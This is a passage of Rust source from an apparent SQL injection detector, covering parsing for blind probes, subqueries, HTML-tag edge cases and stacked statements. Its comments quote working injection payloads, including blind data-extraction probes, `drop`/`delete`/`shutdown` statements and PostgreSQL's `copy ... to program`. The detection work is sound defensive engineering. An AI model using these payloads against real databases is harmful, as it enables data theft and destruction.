            // By `=` alone, as sqlmap's `([RANDNUM]=[RANDNUM1])*[RANDNUM1]` compares: `total=(2>1)*10` is a
            // formula's TRUE times a number. Blanks and parentheses around the operands as SQL reads them, as
            // sqlmap's tampers and hand-edited probes write them (`(1234 = 1234)*5678`, `((1234=1234))*5678`).
            let past = |at: usize, over: &[u8]| text.len() - skip(&text[at..], over).len();
            let compared = number(past(open, b" (")).and_then(|(_, end, _)| {
                let at = past(end, b" ");
                (comparison_at(text, at)? == b"=")
                    .then(|| number(past(at + 1, b" ")).map(|(_, end, _)| end))
                    .flatten()
            });
            if compared.is_some_and(|end| multiplied(text, end)) {
                return true;
            }
        }
        // A sign before it too (`id=-5+length(database())>1`, `id=-length(database())<-1`).
        let at = text.len() - skip(&text[start..], b" (+-~").len();
        // Its name maybe quoted, as MySQL's `` ` `` and PostgreSQL's `"` quote it (`` `ascii`(…) ``, `"length" (…)`).
        let (name, name_end) = quoted_name(text, at).unwrap_or_else(|| {
            let len = text[at..]
                .iter()
                .take(32)
                .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
                .count();
            (&text[at..at + len], at + len)
        });
        // After a number and arithmetic too (`id=0+length(database())>1`).
        let (name, name_end) = match name.first() {
            Some(b) if b.is_ascii_digit() => match call_after_arithmetic(text, name_end, calls) {
                Some(at) => {
                    let (called, _) = word(&text[at..]);
                    (called, at + called.len())
                }
                None => return false,
            },
            _ => (name, name_end),
        };
        let paren = text.len() - skip(&text[name_end..], b" ").len();
        if text.get(paren) != Some(&b'(') {
            return false;
        }
        // Or any call wrapping one, as a numeric function does (`mod(length(database()),2)=1`,
        // `abs(length(database()))>1`, `round(…)`, `floor(…)`).
        if !(BLIND_FUNCTIONS.contains(&name)
            || (!name.is_empty() && calls.wraps_blind(text, paren)))
        {
            return false;
        }
        let Some(close) = calls.close(text, paren) else {
            return false;
        };
        // MySQL's `make_set` and `elt` picking by a condition (`make_set(1=1,5)`, `elt(ascii(…)>64,5)`): sqlmap's
        // parameter-replacing probes, uncompared.
        // MySQL's `if` and SQL Server's `iif` picking by a condition that reads the server's data, uncompared
        // (`if(ascii(substr(user(),1,1))>64,1,0)`); a spreadsheet's `=IF(LEN(A1)>1,1,0)` reads none.
        let server_if = matches!(name, b"if" | b"iif");
        if matches!(name, b"make_set" | b"elt") || server_if {
            return calls.picks_by_condition(paren, close)
                && chain_ends(text, close + 1)
                && (!server_if || calls.reads_server(paren, close));
        }
        // Arithmetic with numbers on the call is the call still (`length(database())+0>1`).
        let after = text.len() - skip(&text[past_arithmetic(text, close + 1)..], b" )").len();
        let end = match comparison_at(text, after) {
            Some(comparison) => {
                let right = text.len() - skip(&text[after + comparison.len()..], b" (").len();
                match signed_operand(text, right, true) {
                    Some((_, end, _)) => end,
                    None => return false,
                }
            }
            None => match predicate_end(text, after, b"", calls) {
                Some(end) => end,
                None => return false,
            },
        };
        (chain_ends(text, end) || multiplied(text, end)) && calls.reads_server(paren, close)
    })
}

/// Whether `text` from `end` closes a parenthesis (or more) and multiplies the condition in it by a number, maybe in
/// parentheses, ending the statement ([`chain_ends`]): sqlmap's `([condition])*5678`, the row's id when the condition
/// holds and 0 when not (`((1234=1234))*5678`, `(1234=1234)*(5678)` alike).
fn multiplied(text: &[u8], end: usize) -> bool {
    let rest = skip(&text[end..], b" ");
    if !rest.starts_with(b")") {
        return false;
    }
    let Some(factor) = skip(rest, b" )").strip_prefix(b"*") else {
        return false;
    };
    let factor = skip(factor, b" (");
    let len = number_len(factor);
    len > 0 && chain_ends(text, text.len() - factor.len() + len)
}

/// Whether `before` (the text before a `(`) ends with the name of one of [`BLIND_FUNCTIONS`], maybe after blanks,
/// or with one quoted by `` ` `` or `"` and glued to the `(`.
fn blind_call_name(before: &[u8]) -> bool {
    fn name_in(text: &[u8]) -> (usize, &[u8]) {
        let start = name_start(text);
        (start, &text[start..])
    }
    if let Some((&quote @ (b'`' | b'"'), inner)) = before.split_last() {
        let (start, name) = name_in(inner);
        return start > 0 && inner[start - 1] == quote && BLIND_FUNCTIONS.contains(&name);
    }
    BLIND_FUNCTIONS.contains(&name_in(skip_back(before, b" ")).1)
}

/// Words after which a parenthesis opens an SQL operand (`1 and (select …)`, `exists (select …)`).
const OPERAND_KEYWORDS: &[&[u8]] = &[
    b"and", b"or", b"xor", b"not", b"exists", b"in", b"like", b"rlike", b"regexp", b"when",
    b"then", b"else", b"where", b"having", b"select",
];

/// Words a subquery's `(` is glued to where no blank separates them: a derived table (`from(select …)x`), a
/// set, a quantifier or PostgreSQL's array of a subquery. No SQL server takes a subquery as a function's argument
/// without its own parentheses (`ascii(select …)` is a syntax error; `ascii((select …))` is the probe), so a name
/// glued to `(select` is code of another language: jq's `map(select(.age > 18))`, SQLAlchemy's
/// `execute(select(User))`.
const GLUED_SUBQUERY_KEYWORDS: &[&[u8]] = &[
    b"from",
    b"join",
    b"union",
    b"intersect",
    b"except",
    b"any",
    b"some",
    b"all",
    b"array",
    b"as",
    b"lateral",
    b"multiset",
];

/// A subquery where an SQL operand stands — the blind injection's probe, `1 and ascii(substring((select pw from users
/// limit 1),1,1))>64`, `1 and 1=(select 1 from users where …)`, `exp(~(select * from (select user())x))` — in MySQL,
/// PostgreSQL, SQL Server and SQLite alike: `(select` at the text's start, after an operator, `(`, `,`, an
/// [`OPERAND_KEYWORDS`] word or one of [`GLUED_SUBQUERY_KEYWORDS`] glued to it, and then a select list that reads as
/// code (a call, `@`, `*`, a quote, a number, a dotted name) or a `from` and a table's name that the subquery's `)` or
/// a clause follows. Prose's "(select one from the list)" goes on with words after its `from`; "Sizes: S, M (select
/// one)" puts its parenthesis after a word.
fn subquery(text: &[u8]) -> bool {
    let ident = |b: &u8| b.is_ascii_alphanumeric() || *b == b'_';
    memchr::memmem::find_iter(text, b"select").any(|at| {
        if text.get(at + 6).is_some_and(ident) {
            return false;
        }
        let Some(open) = skip_back(&text[..at], b" ").strip_suffix(b"(") else {
            return false;
        };
        let context = skip_back(open, b" ");
        // A value's start: the text's, or after `=` (`id=(select 1)`, "Answer = (select 1)") — but a number's `=`
        // compares (`id=1 and 1=(select 1)`): a key is no number.
        let compared = context.strip_suffix(b"=").is_some_and(|before| {
            let before = skip_back(before, b" ");
            let digits = before
                .iter()
                .rev()
                .take_while(|b| b.is_ascii_digit())
                .count();
            digits > 0 && !before[..before.len() - digits].last().is_some_and(ident)
        });
        let mut at_value = if !compared && matches!(context.last(), None | Some(b'=')) {
            Select::Value
        } else {
            Select::Operand
        };
        let place = match context.last() {
            None => true,
            // A tag's `>` is no comparison: a rich-text editor's `<div>(select 3 items)</div>`.
            Some(b) if operand_follows(b) => !ends_tag(context, &text[open.len()..]),
            Some(b) if ident(b) => {
                let start = context.iter().rposition(|b| !ident(b)).map_or(0, |p| p + 1);
                // MySQL reads a number glued to a word as two tokens: `1and(select 1)` is `1 and (select 1)`.
                let word = &context[start..];
                let keyword = &word[word.iter().take_while(|b| b.is_ascii_digit()).count()..];
                if matches!(keyword, b"div" | b"mod") {
                    at_value = Select::Divided;
                    divides(&context[..context.len() - keyword.len()])
                } else {
                    OPERAND_KEYWORDS.contains(&keyword)
                        || (context.len() == open.len()
                            && GLUED_SUBQUERY_KEYWORDS.contains(&keyword))
                }
            }
            _ => false,
        };
        place && reads_as_subquery(&text[at + 6..], at_value)
    })
}

/// Whether `text` ends with an HTML tag's `>` that SQL cannot read as a comparison before `rest` (the `(` of a
/// parenthesis and what follows it): a closing tag (`</div>`, `</td >`: `<` then `/` starts no operand); a
/// self-closing one (`<br/>`: `/` then `>` ends none); or an opening one (`<div>`, `<p class="a">`) whose `<` follows
/// no operand — the text's start, another tag's `>`, `=`, `(`, `,`, `;` or `:`, with no quote in the tag that could
/// close a string around that `<` (`id=<b>(select 1)` is no SQL either) — or whose parenthesis closes, holding no
/// parenthesis, quote or comment, right before a closing tag ("Pick <b>(select 1 or 2)</b>": SQL cannot read
/// `…)</b>`). A word's or a literal's `<` otherwise compares (`false<true>(select …)` is `(0<1)>(select …)`, `x<a>(select
/// …)` of two columns too). Its name is a letter and letters, digits or `-`, its attributes hold no `<` or `>`; read
/// back within [`TAG_WINDOW`] to the `<` or `>` before it, and forward to the first `(`, `)`, `<`, quote or comment,
/// so each `>` and each `(` of a text is read over bytes no other's reading covers.
fn ends_tag(text: &[u8], rest: &[u8]) -> bool {
    let Some(inner) = text.strip_suffix(b">") else {
        return false;
    };
    let window = &inner[inner.len().saturating_sub(TAG_WINDOW)..];
    let Some(open) = memchr::memrchr2(b'<', b'>', window) else {
        return false;
    };
    if window[open] != b'<' {
        return false;
    }
    let tag = &window[open + 1..];
    if let Some(closing) = tag.strip_prefix(b"/") {
        // A closing tag holds a name alone, so no quote or comment stands between its `<` and `>`.
        let name = closing
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'-')
            .count();
        return closing.first().is_some_and(u8::is_ascii_alphabetic)
            && closing[name..].iter().all(|b| *b == b' ');
    }
    if !tag.first().is_some_and(u8::is_ascii_alphabetic) {
        return false;
    }
    let name = tag
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'-')
        .count();
    if !matches!(tag.get(name), None | Some(b' ' | b'/')) {
        return false;
    }
    // `*/>` ends a comment, not a tag.
    if tag.ends_with(b"/") && !tag.ends_with(b"*/") {
        return true;
    }
    let before = skip_back(&inner[..inner.len() - window.len() + open], b" ");
    let quoted = tag.iter().any(|b| b"'\"`[]$".contains(b));
    (!quoted && before.last().is_none_or(|b| b">=(,;:".contains(b))) || closes_before_tag(rest)
}

/// Whether the parenthesis `rest` opens closes before a closing tag (`(select 3 items)</p>`), read to its `)` within
/// [`TAG_WINDOW`]; a parenthesis, `<`, quote or comment on the way answers no (SQL might close it elsewhere).
fn closes_before_tag(rest: &[u8]) -> bool {
    let inside = &rest[1.min(rest.len())..rest.len().min(TAG_WINDOW)];
    let Some(close) = inside.iter().position(|b| b"()<'\"`[$#".contains(b)) else {
        return false;
    };
    let held = &inside[..close];
    if inside[close] != b')'
        || memchr::memmem::find(held, b"--").is_some()
        || memchr::memmem::find(held, b"/*").is_some()
    {
        return false;
    }
    skip(&rest[1 + close + 1..], b" ")
        .strip_prefix(b"</")
        .is_some_and(|tag| tag.first().is_some_and(u8::is_ascii_alphabetic))
}

/// Whether an operand stands after `b`, an operator's last character (`=`, `(`, `,`, `+`, `|`…).
fn operand_follows(b: &u8) -> bool {
    b"=<>(,+-*/|&!~^%".contains(b)
}

/// Whether MySQL's `div` or `mod` after `before` is an operator [`subquery`] reads a subquery after: after a `)`
/// (`(1)div(select …)`) or after a number that stands where an operand does — at the text's start, after an operator
/// or an [`OPERAND_KEYWORDS`] word (`id=1 div (select …)`, `1 and 1mod(select …)`). A number after a word is prose's:
/// a version ("the Fabric 1.20.1 mod (select 'Fabric' from the list)", "a 1.5 mod (select 2 files)") or a count
/// ("Grid of 12 div (select 3 columns)").
fn divides(before: &[u8]) -> bool {
    let before = skip_back(before, b" ");
    if before.last() == Some(&b')') {
        return true;
    }
    let token = before
        .iter()
        .rev()
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.'))
        .count();
    let (context, number) = before.split_at(before.len() - token);
    if !number.first().is_some_and(u8::is_ascii_digit) {
        return false;
    }
    let context = skip_back(context, b" ");
    match context.last() {
        None => true,
        Some(b) if operand_follows(b) => true,
        Some(b) if b.is_ascii_alphanumeric() || *b == b'_' => {
            let start = name_start(context);
            OPERAND_KEYWORDS.contains(&&context[start..])
        }
        _ => false,
    }
}

/// Where a `select` stands, for [`reads_as_subquery`].
#[derive(Clone, Copy, PartialEq, Eq)]
enum Select {
    /// Where an operand stands: after an operator, `(`, `,` or a keyword (`1 and (select 1)=1`).
    Operand,
    /// At a value's start, or after `=`: a subquery of constants there is the value itself, reading nothing
    /// (`id=(select 1)` is `id=1`; "Answer = (select 1)" is prose).
    Value,
    /// After a `;`, where no `)` ends it.
    Stacked,
    /// After MySQL's `div` or `mod` ([`divides`]): as an operand, but a number with a word after it reads nothing
    /// (an alias: `select 2 items`), so "12 div (select 2 items)" is prose; `1 div (select 1)` is refused as
    /// `1 and (select 1)` is.
    Divided,
}

/// Whether what follows a subquery's `select` reads as one ([`subquery`]), within [`STATEMENT_WINDOW`]. At a value's
/// start a list of numbers without `from` is no code. A stacked select must read a table: a `from` and a table's name
/// as a subquery's, after a select list that starts with no [`DETERMINERS`] word ("Open the app; select a file from
/// Downloads"); a list that reads as code earns nothing ("Note; select * from the menu"), nor does a select without
/// `from` (jq's `select(.a)`).
fn reads_as_subquery(after: &[u8], at: Select) -> bool {
    let window = &after[..after.len().min(STATEMENT_WINDOW)];
    if at != Select::Stacked {
        return list_end(window, None).is_some_and(|(end, from)| judged(window, end, from, at));
    }
    // A stacked select is read with its strings, in each server's reading of them (one only where its quoting
    // byte is there to read).
    [
        (Quoting::Plain, None),
        (Quoting::Backslash, Some(b'\\')),
        (Quoting::Brackets, Some(b'[')),
        (Quoting::Dollars, Some(b'$')),
    ]
    .into_iter()
    .filter(|(_, byte)| byte.is_none_or(|byte| memchr::memchr(byte, window).is_some()))
    .any(|(reading, _)| {
        list_end(window, Some(reading)).is_some_and(|(end, from)| judged(window, end, from, at))
    })
}

/// How a stacked select's strings and quoted names are read: the servers quote differently, and a quote inside
/// another server's quoted text (`select 1 [x'],pw from users` in SQL Server, `select $$'$$,pw from users` in
/// PostgreSQL) must not hide the rest of the list from every reading.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Quoting {
    /// `'…'`, `"…"` and `` `…` `` with doubled quotes and no escapes (standard SQL; MySQL with
    /// `NO_BACKSLASH_ESCAPES`).
    Plain,
    /// MySQL's default: `\` in a quoted text makes the next byte part of it.
    Backslash,
    /// SQL Server's and SQLite's names in brackets too (`[a]]b]` is the name `a]b`).
    Brackets,
    /// PostgreSQL's: `'…'` (with `\` escapes in an `e'…'`), `"…"`, and `$tag$…$tag$` strings; `` ` `` quotes nothing.
    Dollars,
}

/// Where a select's list ends in `window` (what follows `select`): at a `)` that closes its subquery (`false`) or at
/// its `from` (`true`), outside parentheses. With `strings` (a stacked select: `Some(reading)`), quoted text is
/// skipped as that [`Quoting`] reads it and a `;` ends the statement with neither: each stacked select reads on to
/// the next statement only, so that `1;select ` repeated is read about once, not 1 KB from each `;`.
fn list_end(window: &[u8], strings: Option<Quoting>) -> Option<(usize, bool)> {
    let ident = |b: &u8| b.is_ascii_alphanumeric() || *b == b'_';
    let mut depth = 0usize;
    // The byte that closes the quoted text being read, and whether `\` escapes in it.
    let mut quote: Option<(u8, bool)> = None;
    let mut i = 0;
    while i < window.len() {
        let b = window[i];
        if let Some((close, escapes)) = quote {
            // `\` escapes the next byte; `]]` is a `]` in a bracketed name.
            let escaped = if close == b']' {
                window[i..].starts_with(b"]]")
            } else {
                escapes && b == b'\\'
            };
            if escaped {
                i += 1;
            } else if b == close {
                quote = None;
            }
            i += 1;
            continue;
        }
        if let Some(reading) = strings {
            let after_ident = i > 0 && (ident(&window[i - 1]) || window[i - 1] == b'$');
            match (reading, b) {
                (_, b';') => return None,
                (_, b'\'' | b'"')
                | (Quoting::Plain | Quoting::Backslash | Quoting::Brackets, b'`') => {
                    // PostgreSQL's escape string: `e'…'`.
                    let e_string = reading == Quoting::Dollars
                        && b == b'\''
                        && i > 0
                        && matches!(window[i - 1], b'e' | b'E')
                        && !(i > 1 && ident(&window[i - 2]));
                    quote = Some((b, reading == Quoting::Backslash || e_string));
                    i += 1;
                    continue;
                }
                (Quoting::Brackets, b'[') => {
                    quote = Some((b']', false));
                    i += 1;
                    continue;
                }
                (Quoting::Dollars, b'$') if !after_ident => {
                    let rest = &window[i + 1..];
                    let tag = rest.iter().take_while(|b| ident(b)).count();
                    if rest.get(tag) == Some(&b'$') && !rest.first().is_some_and(u8::is_ascii_digit)
                    {
                        let marker = &window[i..i + tag + 2];
                        let body = i + marker.len();
                        match memchr::memmem::find(&window[body..], marker) {
                            Some(end) => {
                                i = body + end + marker.len();
                                continue;
                            }
                            None => return None,
                        }
                    }
                }
                _ => {}
            }
        }
        match b {
            b'(' => depth += 1,
            b')' if depth == 0 => return Some((i, false)),
            b')' => depth -= 1,
            b'f' if depth == 0
                && window[i..].starts_with(b"from")
                && !(i > 0 && ident(&window[i - 1]))
                && !window.get(i + 4).is_some_and(ident) =>
            {
                return Some((i, true));
            }
            _ => {}
        }
        i += 1;
    }
    None
}

/// [`reads_as_subquery`]'s reading of a select whose list ends at `end` in `window` (at its `from` when `from`).
fn judged(window: &[u8], end: usize, from: bool, at: Select) -> bool {
    let stacked = at == Select::Stacked;
    let ident = |b: &u8| b.is_ascii_alphanumeric() || *b == b'_';
    let list = skip(skip_back(&window[..end], b" "), b" ");
    let dotted = list
        .windows(3)
        .any(|w| ident(&w[0]) && w[1] == b'.' && ident(&w[2]));
    // Code by its marks (a call, `@`, `*`, a quote, `case`, a dotted name), or by a number that opens it.
    let marked = list.iter().any(|b| b"(@*'\"`".contains(b)) || word(list).0 == b"case" || dotted;
    let code = marked || list.first().is_some_and(u8::is_ascii_digit);
    let constants = list
        .iter()
        .all(|b| b.is_ascii_digit() || b", .".contains(b));
    if !from {
        // Constants alone at a value's start; after `div` or `mod`, a number with a word after it and no mark of
        // code, a constant's alias at most.
        let reads_nothing = match at {
            Select::Value => constants,
            Select::Divided => !constants && !marked,
            _ => false,
        };
        return code && !stacked && !reads_nothing;
    }
    let code = code && !stacked;
    let table = skip(&window[end + 4..], b" ");
    let quotes = |text| skip(text, b"`[]\" ");
    // The table's name (maybe qualified: `db.users`, SQL Server's `master.dbo.t` and `master..t`; Oracle's names
    // may hold a `$`: `v$version`), and its alias (`users u`, `users as u`).
    fn name_part(text: &[u8]) -> (&[u8], &[u8]) {
        let n = text
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'$'))
            .count();
        text.split_at(n)
    }
    let (name, mut rest) = name_part(quotes(table));
    for _ in 0..2 {
        match rest.strip_prefix(b".") {
            Some(r) => rest = name_part(quotes(r.strip_prefix(b".").unwrap_or(r))).1,
            None => break,
        }
    }
    let rest = quotes(rest);
    let follows = |rest: &[u8]| {
        let (clause, after_clause) = word(rest);
        let by = word(skip(after_clause, b" ")).0 == b"by";
        rest.is_empty()
            || matches!(rest[0], b')' | b',' | b';')
            || ends_statement(rest)
            || matches!(
                clause,
                b"where"
                    | b"limit"
                    | b"offset"
                    | b"fetch"
                    | b"join"
                    | b"natural"
                    | b"inner"
                    | b"left"
                    | b"right"
                    | b"cross"
                    | b"union"
                    | b"having"
            )
            || (matches!(clause, b"order" | b"group") && by)
    };
    let aliased = || {
        let (alias, after) = word(rest);
        let (alias, after) = match alias {
            b"as" => word(quotes(after)),
            _ => (alias, after),
        };
        !alias.is_empty() && follows(quotes(after))
    };
    // `all` and `distinct` are SQL's before a list (`select all pw from users`): the list's first word follows them.
    let article = stacked
        && match word(list) {
            (b"all" | b"distinct", rest) => {
                let rest = skip(rest, b" ");
                rest.is_empty() || DETERMINERS.contains(&word(rest).0)
            }
            (first, _) => DETERMINERS.contains(&first),
        };
    !list.is_empty()
        && !article
        && (code
            || table.starts_with(b"(")
            || (!name.is_empty() && !DETERMINERS.contains(&name) && (follows(rest) || aliased())))
}

/// Words a `delete from <name>` statement puts after its table's name: SQL Server's second `from`, MySQL's and
/// PostgreSQL's `using`, a `where`, an alias's `as`, MySQL's `partition`/`order by`/`limit`, `returning`, `output`.
const DELETE_CLAUSES: &[&[u8]] = &[
    b"from",
    b"where",
    b"using",
    b"as",
    b"partition",
    b"order",
    b"limit",
    b"returning",
    b"output",
];

/// Whether `delete <target>` and `rest` name the table deleted from before `from`, as MySQL's multi-table and SQL
/// Server's `delete` do: `delete users from users`, `delete u from users u` — the target is the table after `from`
/// or its alias (after a table that is no determiner: "delete a file from a folder" is prose).
fn deletes_named_target(target: &[u8], rest: &[u8]) -> bool {
    let (from, rest) = word(sql_gap(rest, false));
    if target.is_empty() || from != b"from" {
        return false;
    }
    let (table, rest) = word(sql_gap(rest, false));
    if DETERMINERS.contains(&table) {
        return false;
    }
    let (alias, rest) = word(sql_gap(rest, false));
    let alias = if alias == b"as" {
        word(sql_gap(rest, false)).0
    } else {
        alias
    };
    table == target || alias == target
}

/// Words that start prose's noun phrase, never a table's name: "(select one from the list)".
const DETERMINERS: &[&[u8]] = &[
    b"the", b"a", b"an", b"this", b"that", b"these", b"those", b"each", b"every", b"any", b"all",
    b"my", b"your", b"our", b"their", b"his", b"her", b"its", b"some", b"one", b"both", b"either",
];

/// Where each number a value starts with ends — the text's, or one after `=` — where a numeric injection sits: in
/// any of SQL's spellings [`number_len`] reads, signed, with a fraction or an exponent, or hexadecimal (`id=-1 and
/// 1=2`, `id=1.0 and 1=2`, `id=0x1 and 1=2`, as `id=1 and 1=2`). The `=` of a comparison (`>=`, `<=`, `!=`, `==`)
/// starts no value: `age>=18 and age<=65` is a filter, not `1 and id>0`; `if n==1 and len(s)>5:` is code. With
/// each, whether it is the value's own ([`own_value`]).
fn after_leading_numbers(text: &[u8]) -> impl Iterator<Item = (usize, bool, bool)> + '_ {
    let first_equals = memchr::memchr(b'=', text);
    value_starts(text).filter_map(move |start| {
        let plain = after_arithmetic(text, start);
        let own = own_value(text, start, first_equals);
        // A sign glued to its number: "- 1 and 1 is true" is a list's entry. A number only code spells
        // (`(1)`, `--1`, `~0`) stands for its value.
        let rest = &text[start..];
        if let Some((len, _, true)) = const_expression(rest) {
            // Or arithmetic glued, as an injection spells the value it keeps (`id=1-0 and 1=1`, `id=1*1 and 1=1`):
            // a condition must still follow it ("chapters 1-2 and 3" has none).
            let glued = !rest[..len].contains(&b' ') && !matches!(rest[0], b'-' | b'+');
            if coded_number(&rest[..len], false) || glued {
                return Some((start + len, plain, own));
            }
        }
        let len = number_len(rest);
        (len > 0 && !(matches!(rest[0], b'-' | b'+') && rest.get(1) == Some(&b' '))).then_some((
            start + len,
            plain,
            own,
        ))
    })
}

/// Whether the value starting at `start` is the text's own: its start, or after the first `=` with a key before it
/// (`id=1 or x=y`, a query's or a form's pair), not a `name=value` written inside prose or a ticket ("I set
/// debug=1 and mode=verbose"). `first_equals` is where the text's first `=` is.
fn own_value(text: &[u8], start: usize, first_equals: Option<usize>) -> bool {
    start == 0
        || (first_equals == Some(start - 1)
            && text[..start - 1].iter().all(|b| {
                b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b'[' | b']')
            }))
}

/// Where the values a numeric injection may sit at start: the text's start and after each `=` but a comparison's
/// (`>=`, `<=`, `!=`, `==`).
fn value_starts(text: &[u8]) -> impl Iterator<Item = usize> + '_ {
    std::iter::once(0).chain(
        memchr::memchr_iter(b'=', text)
            .filter(|&i| !(i > 0 && matches!(text[i - 1], b'<' | b'>' | b'!' | b'=')))
            .map(|i| i + 1),
    )
}

/// Whether the value starting at `start` follows the `=` of arithmetic: a word that starts with a digit and holds
/// an operator ("2*3=6 and 2*4=8" is homework; a key's name starts with a letter, `id2=`).
fn after_arithmetic(text: &[u8], start: usize) -> bool {
    let Some(before) = start.checked_sub(1).map(|i| &text[..i]) else {
        return false;
    };
    let word_start = before
        .iter()
        .rposition(|b| matches!(b, b' ' | b'&' | b';' | b'?' | b',' | b'='))
        .map_or(0, |at| at + 1);
    let word = &before[word_start..];
    word.first().is_some_and(u8::is_ascii_digit)
        && word[1..]
            .iter()
            .any(|b| matches!(b, b'*' | b'/' | b'+' | b'-' | b'%'))
}

/// Whether the number `number` is spelled as only code spells one: signs stacked (`--1`, `- -1`, `-+1`), a
/// parenthesis (`-(-1)`) or, where an operand stands (`tilde`), MySQL's `~` (`id=1 and ~0`) — a value that starts
/// with one is prose's "about" ("~5 and 10").
fn coded_number(number: &[u8], tilde: bool) -> bool {
    number.contains(&b'(') || (tilde && number.contains(&b'~')) || {
        // Two signs with only blanks between them at a term's start. The first sign after a number is the binary
        // operator, not a sign: "10--20" (a page range) and "5--1" are `10 - -20` and `5 - -1`, one sign each;
        // `1---1` stacks two.
        let (mut signs, mut after_operand) = (0, false);
        number.iter().filter(|b| **b != b' ').any(|&b| {
            if !matches!(b, b'-' | b'+') {
                signs = 0;
                after_operand = b.is_ascii_alphanumeric() || matches!(b, b'.' | b'\'' | b')');
                return false;
            }
            if std::mem::take(&mut after_operand) {
                return false;
            }
            signs += 1;
            signs > 1
        })
    }
}

/// Whether a value (the text's, or one after `=`, as [`after_leading_numbers`] reads them) starts with a number
/// spelled as only code spells one — signs stacked or a parenthesis (`--1`, `-(-1)`, `- -1`, `(1)`, SQL's constant
/// folding) — and then a predicate [`numeric_predicate`] reads (`-(-1) is true`) or a chain of literals and
/// `and`/`or` that keeps its truth ([`chain_ends`]: `--1 or 1`). A plain number before those is prose's ("page 1 or
/// 2", "rooms 1 and 2"), and so is arithmetic without stacked signs or parentheses ("2*3=6 or 7", "chapters 1-2
/// and 3").
fn coded_leading_number(text: &[u8]) -> bool {
    value_starts(text).any(|start| {
        let rest = &text[start..];
        let Some((len, _, true)) = const_expression(rest) else {
            return false;
        };
        let number = &rest[..len];
        // Parentheses alone are a list's numbering ("(1) or (2)"): a sign before one is code's (`-(-1)`).
        let signed_parenthesis = number
            .windows(2)
            .any(|w| matches!(w[0], b'-' | b'+') && w[1] == b'(')
            // A sign and a blank before the parenthesis is a list's bullet at the value's start ("- (1) or (2)"),
            // code's further in (`1*- (-1)` stacks signs anyway).
            || memchr::memmem::find(number, b"- (").is_some_and(|i| i > 0);
        let stacked = coded_number(
            &number
                .iter()
                .copied()
                .filter(|b| *b != b'(' && *b != b')')
                .collect::<Vec<u8>>(),
            false,
        );
        if !(signed_parenthesis || stacked)
            || rest
                .get(len)
                .is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.'))
        {
            return false;
        }
        let after = skip(&rest[len..], b" ");
        let end = text.len() - after.len();
        (!after.is_empty() && !ends_statement(after) && chain_ends(text, end))
            || numeric_predicate(text, end, number)
    })
}

/// Whether `text` starts (after a gap) with a statement of one of [`stacked`]'s shapes; `strict` where no `;` came
/// before (`exec` must then call as `execute` does: "2 exec summaries due" is prose).
fn statement_starts(text: &[u8], strict: bool) -> bool {
    let (verb, rest) = word(sql_gap(text, false));
    let rest_word = || word(sql_gap(rest, false));
    match verb {
        b"drop" | b"alter" => SCHEMA_OBJECTS.contains(&rest_word().0),
        // "Ctrl+C; delete from the list": a determiner and a word after `from` is prose — but not a word of the
        // statement's own (SQL Server's `delete from a from users a` deletes through the alias `a`).
        b"delete" => {
            // MySQL's modifiers before `from` (`delete quick ignore from users`), SQL Server's `top (n)`.
            let mut rest = rest;
            let (mut from, mut after) = word(sql_gap(rest, false));
            while matches!(from, b"low_priority" | b"quick" | b"ignore" | b"top") {
                rest = sql_gap(after, false);
                if from == b"top" {
                    rest = rest
                        .strip_prefix(b"(")
                        .and_then(|r| {
                            memchr::memchr(b')', &r[..r.len().min(64)]).map(|n| &r[n + 1..])
                        })
                        .unwrap_or_else(|| word(rest).1);
                }
                (from, after) = word(sql_gap(rest, false));
            }
            if from != b"from" {
                return deletes_named_target(from, after);
            }
            let (name, after) = word(sql_gap(after, false));
            let next = word(sql_gap(after, false)).0;
            let prose =
                DETERMINERS.contains(&name) && !next.is_empty() && !DELETE_CLAUSES.contains(&next);
            !prose
        }
        b"insert" | b"replace" => inserts(rest),
        b"update" => update_sets(rest),
        b"shutdown" => ends_statement(rest) || skip(rest, b" ").starts_with(b"with nowait"),
        b"exec" if !strict => rest.first().is_some_and(|b| b" (@'\"[".contains(b)),
        b"exec" | b"execute" => {
            let (name, after) = rest_word();
            matches!(
                skip(rest, b" ").first(),
                Some(b'(' | b'@' | b'\'' | b'"' | b'[')
            ) || name == b"immediate"
                || name.contains(&b'_')
                || after.starts_with(b".")
        }
        b"truncate" => {
            let (name, after) = rest_word();
            name == b"table" || (!name.is_empty() && ends_statement(after))
        }
        b"grant" => grants(rest),
        // SQL Server's variables: `declare @q varchar(99) …`.
        b"declare" => skip(rest, b" ").starts_with(b"@"),
        // PostgreSQL's `copy t to program 'cmd'` (or `from program`).
        b"copy" => {
            let (statement, _) = statement(rest);
            keyword_at(statement, b"program").is_some_and(|at| {
                let before = skip_back(&statement[..at], b" ");
                before.ends_with(b" to") || before.ends_with(b" from")
            })
        }
        // `create user|login|role name` and then how it is made (or nothing more); `create [or replace]
        // function|procedure|trigger|table name` and then its parameters or columns, `returns`, `language`, a
        // trigger's timing or `as select` (a UDF from a library, a trigger that rewrites rows, SQLite's table in an
        // attached file).
        b"create" => {
            let (modified, kind, after) = created_object(rest);
            let after = past_if_not_exists(after);
            let (name, after) = word(skip(sql_gap(after, false), b"'\"`["));
            let after = skip(after, b"'\"`]");
            let after = after
                .strip_prefix(b".")
                .map_or(after, |r| word(skip(r, b"'\"`[")).1);
            let after = skip(after, b"'\"`]");
            let (next, then) = word(sql_gap(after, false));
            let following = word(sql_gap(then, false)).0;
            let definition = || match kind {
                b"trigger" => {
                    matches!(next, b"before" | b"after" | b"instead")
                        && matches!(following, b"insert" | b"update" | b"delete" | b"of")
                }
                _ => {
                    sql_gap(after, false).starts_with(b"(")
                        || (kind != b"table" && matches!(next, b"returns" | b"language"))
                        || (next == b"as" && following == b"select")
                }
            };
            !name.is_empty()
                && ((matches!(kind, b"user" | b"login" | b"role")
                    && (ends_statement(after)
                        || matches!(
                            next,
                            b"with"
                                | b"identified"
                                | b"password"
                                | b"from"
                                | b"superuser"
                                | b"login"
                        )))
                    || (matches!(kind, b"function" | b"procedure" | b"trigger" | b"table")
                        && definition()))
                && (!modified || matches!(kind, b"function" | b"table"))
        }
        // MySQL's `set global name = value` (its variables' names hold a `_`: `general_log`, `local_infile`), and
